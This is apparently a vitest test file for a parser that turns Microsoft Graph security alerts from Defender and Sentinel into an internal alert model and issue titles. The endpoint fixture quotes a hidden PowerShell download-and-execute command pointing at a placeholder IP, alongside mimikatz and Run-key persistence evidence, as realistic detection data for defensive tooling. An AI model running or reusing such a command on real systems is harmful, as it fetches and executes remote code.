/** A Graph alert read into our model: our words, the first device and user, and leniency where Graph varies. */
import { describe, expect, it } from "vitest";
import { fromGraph, graphAlertSchema, readGraphAlert, readListedGraphAlert } from "../../src/graph/alert.ts";
import { renderTitle } from "../../src/issue/render.ts";
import type { Alert, Evidence } from "../../src/source/alert.ts";
import { endpointAlert, GRAPH_TENANT_ID, type GraphAlert, identityAlert, oauthAlert, phishingAlert, sampleGraphAlerts, sentinelAlert } from "../emulators/sample-graph-alerts.ts";

const DEFAULT_TEMPLATE = "[{severity}] {title} on {computerDnsName}";
const DEVICE_ID = "1e5bc9d7e413ddd7902c2932e418702b84d0cc07";
const incident = (id: string) => ({ id, webUrl: `https://security.microsoft.com/incidents/${id}?tid=${GRAPH_TENANT_ID}` });

function read(raw: unknown): Alert {
  const reading = readGraphAlert(raw);
  if (!reading.ok) throw new Error(reading.problem);
  return reading.alert;
}

interface Expected {
  severity: string;
  status: string;
  classification: string | null;
  determination: string | null;
  product: string;
  device: Alert["device"];
  deviceGroup: string | null;
  user: string | null;
  incident: Alert["incident"];
  assignedTo: string | null;
  comments: Alert["comments"];
  title: string;
  evidence: Evidence[];
}

const COMMENT_TIME = "2026-11-30T09:01:02.3456789Z";

// Each sample, with the triage fields Graph may send (in either case), and what it reads as.
const CASES: Array<[name: string, raw: GraphAlert, expected: Expected]> = [
  [
    "Defender for Endpoint",
    { ...structuredClone(endpointAlert), classification: "truePositive", determination: "malware" },
    {
      severity: "High",
      status: "New",
      classification: "TruePositive",
      determination: "Malware",
      product: "Microsoft Defender for Endpoint",
      device: { name: "fin-ws-042.contoso.com", id: DEVICE_ID },
      deviceGroup: "Finance workstations",
      user: "CONTOSO\\jdoe",
      incident: incident("48213"),
      assignedTo: null,
      comments: [],
      title: "[High] 'Mimikatz' credential theft tool was detected on fin-ws-042.contoso.com",
      evidence: [
        {
          kind: "device",
          type: "Device",
          entity: "fin-ws-042.contoso.com",
          details: [
            { label: "OS", text: "Windows11 22631" },
            { label: "risk", text: "high" },
            { label: "device ID", code: DEVICE_ID },
            { label: "IP", code: "10.1.4.27" },
            { label: "external IP", code: "203.0.113.24" },
            { label: "logged on", code: "CONTOSO\\jdoe" },
            { label: "verdict", text: "malicious" },
            { label: "role", text: "compromised" },
          ],
        },
        {
          kind: "user",
          type: "User",
          entity: "CONTOSO\\jdoe",
          details: [{ code: "jdoe@contoso.com" }, { text: "Jane Doe" }, { label: "SID", code: "S-1-5-21-1782478320-2345332114-4123456789-1104" }, { label: "verdict", text: "suspicious" }],
        },
        {
          kind: "file",
          type: "File",
          entity: "C:\\Users\\jdoe\\AppData\\Local\\Temp\\mimikatz.exe",
          details: [
            { label: "SHA-256", code: "92804faaab2175dc501d73e814663058c78c0a042675a8937266357bcfb96c50" },
            { label: "detection", text: "prevented" },
            { label: "verdict", text: "malicious" },
            { label: "remediation", text: "prevented" },
          ],
        },
        {
          kind: "other",
          type: "Process",
          entity: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
          details: [
            { code: 'powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'http://203.0.113.9/a\')"' },
            { label: "PID", text: "7412" },
            { label: "parent", code: "C:\\Program Files\\Microsoft Office\\root\\Office16\\winword.exe" },
            { label: "user", code: "CONTOSO\\jdoe" },
            { label: "verdict", text: "suspicious" },
          ],
        },
        { kind: "other", type: "IP", entity: "203.0.113.9", details: [{ label: "country", text: "NL" }, { label: "verdict", text: "suspicious" }, { label: "role", text: "destination" }] },
        { kind: "other", type: "URL", entity: "http://203.0.113.9/a", details: [{ label: "verdict", text: "suspicious" }] },
        { kind: "other", type: "Registry key", entity: "HKEY_CURRENT_USER\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run", details: [{ label: "verdict", text: "suspicious" }] },
        {
          kind: "other",
          type: "Registry value",
          entity: "HKEY_CURRENT_USER\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run",
          details: [
            { label: "name", code: "Updater" },
            { label: "value", code: "C:\\Users\\jdoe\\AppData\\Local\\Temp\\mimikatz.exe" },
            { label: "type", text: "String" },
            { label: "verdict", text: "suspicious" },
          ],
        },
      ],
    },
  ],
  [
    "Defender for Office 365",
    {
      ...structuredClone(phishingAlert),
      // Microsoft's examples show PascalCase too.
      classification: "TruePositive" as GraphAlert["classification"],
      determination: "Phishing" as GraphAlert["determination"],
      comments: [
        { comment: "Purged from 14 mailboxes by ZAP.", createdByDisplayName: "Automation", createdDateTime: COMMENT_TIME },
        { comment: "A comment without a time is no comment", createdByDisplayName: "x" },
        { comment: "Nobody signed this one.", createdByDisplayName: null, createdDateTime: COMMENT_TIME },
      ],
    },
    {
      severity: "Medium",
      status: "InProgress",
      classification: "TruePositive",
      determination: "Phishing",
      product: "Microsoft Defender for Office 365",
      device: null,
      deviceGroup: null,
      user: null,
      incident: incident("48213"),
      assignedTo: "soc@contoso.com",
      comments: [
        { comment: "Purged from 14 mailboxes by ZAP.", createdBy: "Automation", createdTime: COMMENT_TIME },
        { comment: "Nobody signed this one.", createdBy: null, createdTime: COMMENT_TIME },
      ],
      title: "[Medium] Email messages containing malicious URL removed after delivery",
      evidence: [
        {
          kind: "other",
          type: "E-mail",
          entity: "Overdue invoice 2026-1187 – action required",
          details: [
            { label: "from", code: "Fabrikam Billing <billing@fabrikam-invoices.example>" },
            { label: "to", code: "jdoe@contoso.com" },
            { label: "sender IP", code: "198.51.100.77" },
            { label: "Internet message ID", code: "<PH0PR11MB5176.namprd11.prod.outlook.com@fabrikam-invoices.example>" },
            { label: "network message ID", code: "5b1c2d3e-4f50-4a6b-8c7d-9e0f1a2b3c4d" },
            { label: "delivery", text: "Delivered → Inbox" },
            { label: "detected by", text: "urlDetonationReputation, zeroHourAutoPurge" },
            { label: "URL", code: "https://fabrikam-invoices.example/pay?ref=2026-1187" },
            { label: "verdict", text: "malicious" },
            { label: "remediation", text: "remediated" },
          ],
        },
        { kind: "mailbox", type: "Mailbox", entity: "jdoe@contoso.com", details: [{ text: "Jane Doe" }, { label: "role", text: "destination" }] },
        { kind: "other", type: "URL", entity: "https://fabrikam-invoices.example/pay?ref=2026-1187", details: [{ label: "verdict", text: "malicious" }] },
      ],
    },
  ],
  [
    "Defender for Identity",
    { ...structuredClone(identityAlert), status: "RESOLVED" as GraphAlert["status"], classification: "informationalExpectedActivity", determination: "securityTesting" },
    {
      severity: "Medium",
      status: "Resolved",
      classification: "InformationalExpectedActivity",
      determination: "SecurityTesting",
      product: "Microsoft Defender for Identity",
      device: { name: "dc01.contoso.com", id: null },
      deviceGroup: null,
      user: "CONTOSO\\jdoe",
      incident: incident("48213"),
      assignedTo: null,
      comments: [],
      title: "[Medium] User and IP address reconnaissance (SMB) on dc01.contoso.com",
      evidence: [
        { kind: "user", type: "User", entity: "CONTOSO\\jdoe", details: [{ code: "jdoe@contoso.com" }, { text: "Jane Doe" }, { label: "verdict", text: "suspicious" }, { label: "role", text: "attacker" }] },
        { kind: "device", type: "Device", entity: "dc01.contoso.com", details: [{ label: "OS", text: "WindowsServer2022" }, { label: "IP", code: "10.1.0.10" }, { label: "role", text: "attacked" }] },
        { kind: "other", type: "IP", entity: "10.1.4.27", details: [{ label: "role", text: "source" }] },
      ],
    },
  ],
  [
    "Defender for Cloud Apps",
    { ...structuredClone(oauthAlert), classification: "falsePositive", determination: "notEnoughDataToValidate" },
    {
      severity: "Low",
      status: "New",
      classification: "FalsePositive",
      determination: "InsufficientData",
      product: "Microsoft Defender for Cloud Apps",
      device: null,
      deviceGroup: null,
      // A cloud account (its domain a DNS name) by its UPN.
      user: "svc-mailsync@contoso.com",
      incident: incident("48230"),
      assignedTo: null,
      comments: [],
      title: "[Low] Unusual addition of credentials to an OAuth app",
      evidence: [
        { kind: "other", type: "OAuth app", entity: "MailSync Pro", details: [{ label: "app ID", code: "4a5b6c7d-8e9f-4a0b-9c1d-2e3f4a5b6c7d" }, { label: "publisher", text: "MailSync Ltd" }, { label: "verdict", text: "suspicious" }] },
        // The instance that repeats the app's name is not shown twice.
        { kind: "other", type: "Cloud app", entity: "Office 365", details: [{ label: "app ID", text: "11161" }] },
        { kind: "user", type: "User", entity: "svc-mailsync@contoso.com", details: [{ label: "verdict", text: "suspicious" }, { label: "role", text: "compromised" }] },
      ],
    },
  ],
  [
    "Microsoft Sentinel",
    { ...structuredClone(sentinelAlert), severity: "unknown", classification: "unknown", determination: "unknown" },
    {
      severity: "UnSpecified",
      status: "New",
      classification: null,
      determination: null,
      product: "Microsoft Sentinel",
      device: null,
      deviceGroup: null,
      user: null,
      incident: null,
      assignedTo: null,
      comments: [],
      title: "[UnSpecified] Mass download by a single user",
      evidence: [
        {
          kind: "other",
          type: "Azure resource",
          entity: "finreports",
          details: [
            { label: "type", text: "Microsoft.Storage/storageAccounts" },
            { label: "ID", code: "/subscriptions/0a1b2c3d-4e5f-4a6b-8c7d-9e0f1a2b3c4d/resourceGroups/rg-finance/providers/Microsoft.Storage/storageAccounts/finreports" },
          ],
        },
      ],
    },
  ],
];

it("covers every sample", () => {
  expect(CASES.map(([, raw]) => raw.id)).toEqual(sampleGraphAlerts().map((alert) => alert.id));
});

describe.each(CASES)("the %s alert", (_name, raw, expected) => {
  const alert = read(raw);

  it("keeps its ID, creation time and portal link", () => {
    expect(alert.id).toBe(raw.id);
    expect(alert.createdAt).toEqual(new Date(raw.createdDateTime!));
    expect(alert.webUrl).toBe(raw.alertWebUrl);
    expect(alert.tenantId).toBe(GRAPH_TENANT_ID);
    expect(alert.updatedAt).toEqual(new Date(raw.lastUpdateDateTime!));
  });

  it("reads severity, status, classification and determination in our words", () => {
    expect([alert.severity, alert.status, alert.classification, alert.determination]).toEqual([expected.severity, expected.status, expected.classification, expected.determination]);
  });

  it("names the product, the first device and user, the incident, the owner and the comments", () => {
    expect({
      product: alert.product,
      device: alert.device,
      deviceGroup: alert.deviceGroup,
      user: alert.user,
      incident: alert.incident,
      assignedTo: alert.assignedTo,
      comments: alert.comments,
    }).toEqual({
      product: expected.product,
      device: expected.device,
      deviceGroup: expected.deviceGroup,
      user: expected.user,
      incident: expected.incident,
      assignedTo: expected.assignedTo,
      comments: expected.comments,
    });
  });

  it("shows its text fields as Graph wrote them", () => {
    expect([alert.title, alert.description, alert.recommendedAction, alert.category, alert.detectionSource, alert.mitreTechniques]).toEqual([
      raw.title,
      raw.description,
      raw.recommendedActions,
      raw.category,
      raw.detectionSource,
      raw.mitreTechniques,
    ]);
  });

  it("shows each piece of evidence by its type", () => {
    expect(alert.evidence).toEqual(expected.evidence);
  });

  it("fills the default title: the severity's label word, ` on ` the first device evidence's DNS name", () => {
    expect(renderTitle(DEFAULT_TEMPLATE, alert)).toBe(expected.title);
  });

  it("fills the title template from Graph's own fields", () => {
    const filled = renderTitle("{serviceSource}|{productName}|{providerAlertId}|{status}|{createdDateTime}|{mitreTechniques}|{evidence}|{additionalData}", alert);
    expect(filled).toBe([raw.serviceSource, raw.productName, raw.providerAlertId, raw.status, "2026-11-30 " + raw.createdDateTime!.slice(11, 19) + " UTC", raw.mitreTechniques!.join(", "), "", ""].join("|"));
  });
});

describe("the title's {severity}", () => {
  it.each([
    ["high", "High"],
    ["Informational", "Informational"],
    ["unknown", "UnSpecified"],
    ["critical", "UnSpecified"],
    [null, "UnSpecified"],
  ])("is %s's label word, %s", (severity, word) => {
    expect(renderTitle("{severity}", read({ ...structuredClone(endpointAlert), severity }))).toBe(word);
  });
});

describe("a malformed alert", () => {
  const good = () => structuredClone(endpointAlert) as Record<string, unknown>;

  it.each([
    ["an ID with other characters", { id: "da1/../../x" }, "da1/../../x", /^id: /],
    ["an ID too long", { id: "a".repeat(129) }, "a".repeat(129), /^id: /],
    ["a number for an ID", { id: 42 }, "(no id)", /^id: /],
    ["no ID", { id: undefined }, "(no id)", /^id: /],
    ["no creation time", { createdDateTime: undefined }, endpointAlert.id, /^createdDateTime: /],
    ["a creation time that is no time", { createdDateTime: "yesterday" }, endpointAlert.id, /^createdDateTime: /],
    ["a creation time without a zone", { createdDateTime: "2026-11-30T08:15:42" }, endpointAlert.id, /^createdDateTime: /],
    ["a date for a creation time", { createdDateTime: "2026-11-30" }, endpointAlert.id, /^createdDateTime: /],
  ])("is reported with its problem: %s", (_name, change, id, problem) => {
    const raw = { ...good(), ...change };
    const reading = readGraphAlert(raw);
    expect(reading.ok).toBe(false);
    if (reading.ok) return;
    expect(reading.id).toBe(id);
    expect(reading.problem).toMatch(problem);
    const listed = readListedGraphAlert(raw, new TextEncoder().encode(JSON.stringify(raw)));
    expect(listed).toEqual({ ok: false, id, problem: reading.problem });
  });

  it("is not an object", () => {
    expect(readGraphAlert(null)).toMatchObject({ ok: false, id: "(no id)" });
    expect(readGraphAlert("da1")).toMatchObject({ ok: false, id: "(no id)" });
  });
});

describe("leniency", () => {
  const baseline = read(endpointAlert);

  it.each([
    ["title", 42, { title: null }],
    ["description", { text: "x" }, { description: null }],
    ["severity", ["high"], { severity: null }],
    ["status", 1, { status: null }],
    ["assignedTo", false, { assignedTo: null }],
    ["incidentId", 48213, { incident: null }],
    ["alertWebUrl", {}, { webUrl: null }],
    ["firstActivityDateTime", "not a time", { firstActivity: null }],
    ["lastUpdateDateTime", 1764490542, { updatedAt: null }],
    ["mitreTechniques", "T1003", { mitreTechniques: [] }],
    ["mitreTechniques", ["T1003", 7, null, "T1003.001"], { mitreTechniques: ["T1003", "T1003.001"] }],
    ["comments", { comment: "x" }, { comments: [] }],
    ["evidence", "none", { evidence: [], device: null, deviceGroup: null, user: null }],
  ])("a wrong-typed %s reads as none and costs nothing else", (field, value, changed) => {
    const alert = read({ ...structuredClone(endpointAlert), [field]: value });
    const { fields: _f, ...rest } = alert;
    const { fields: _b, ...expected } = baseline;
    expect(rest).toEqual({ ...expected, ...changed });
  });

  it("drops an odd evidence entry and keeps the others", () => {
    const evidence = structuredClone(endpointAlert.evidence!) as unknown[];
    const odd = [null, "deviceEvidence", 42, [], { "@odata.type": 7 }];
    const alert = read({ ...structuredClone(endpointAlert), evidence: [odd[0], ...evidence.slice(0, 3), ...odd.slice(1), ...evidence.slice(3)] });
    expect(alert.evidence).toEqual([...baseline.evidence.slice(0, 3), { kind: "other", type: "Evidence", entity: null, details: [] }, ...baseline.evidence.slice(3)]);
    expect([alert.device, alert.user]).toEqual([baseline.device, baseline.user]);
  });

  it("reads an evidence entry with wrong-typed fields as far as it goes", () => {
    const device = { "@odata.type": "#microsoft.graph.security.deviceEvidence", deviceDnsName: 42, hostName: "fin-ws-042", mdeDeviceId: ["x"], osPlatform: "Windows11", osBuild: "22631", loggedOnUsers: "jdoe", roles: "compromised", verdict: {} };
    const alert = read({ ...structuredClone(endpointAlert), evidence: [device] });
    expect(alert.evidence).toEqual([{ kind: "device", type: "Device", entity: "fin-ws-042", details: [{ label: "OS", text: "Windows11" }] }]);
    expect([alert.device, alert.deviceGroup, renderTitle(DEFAULT_TEMPLATE, alert)]).toEqual([{ name: null, id: null }, null, "[High] 'Mimikatz' credential theft tool was detected"]);
  });

  it.each(["constructor", "__proto__", "toString", "hasOwnProperty"])("takes the type name %s for a type it does not know", (name) => {
    const alert = read({ ...structuredClone(endpointAlert), evidence: [{ "@odata.type": `#microsoft.graph.security.${name}`, value: "x" }] });
    expect(alert.evidence).toEqual([{ kind: "other", type: name, entity: null, details: [{ label: "value", code: "x" }] }]);
  });

  it("takes the first device and the first user from the evidence, whatever comes before them", () => {
    const [device, user] = structuredClone(endpointAlert.evidence!);
    const second = { ...device!, deviceDnsName: "second.contoso.com", mdeDeviceId: "2".repeat(40), rbacGroupName: "Servers" };
    const alert = read({ ...structuredClone(endpointAlert), evidence: [structuredClone(oauthAlert.evidence![0]), device, second, user, structuredClone(oauthAlert.evidence![2])] });
    expect([alert.device, alert.deviceGroup, alert.user]).toEqual([{ name: "fin-ws-042.contoso.com", id: DEVICE_ID }, "Finance workstations", "CONTOSO\\jdoe"]);
  });
});

describe("a listed alert", () => {
  it("is read by its ID, creation and update times now, and whole when asked", () => {
    const bytes = new TextEncoder().encode(JSON.stringify(phishingAlert));
    const listed = readListedGraphAlert(JSON.parse(JSON.stringify(phishingAlert)), bytes);
    expect(listed.ok).toBe(true);
    if (!listed.ok) return;
    expect([listed.alert.id, listed.alert.createdAt, listed.updatedAt]).toEqual([phishingAlert.id, new Date(phishingAlert.createdDateTime!), new Date(phishingAlert.lastUpdateDateTime!)]);
    expect(listed.alert.read()).toEqual(read(phishingAlert));
  });

  it("has no update time when Graph gives none it can read", () => {
    const raw = { ...structuredClone(phishingAlert), lastUpdateDateTime: "soon" };
    const listed = readListedGraphAlert(raw, new TextEncoder().encode(JSON.stringify(raw)));
    expect(listed).toMatchObject({ ok: true, updatedAt: null });
  });
});

it("translates what the schema parsed, as readGraphAlert does", () => {
  expect(fromGraph(graphAlertSchema.parse(identityAlert))).toEqual(read(identityAlert));
});
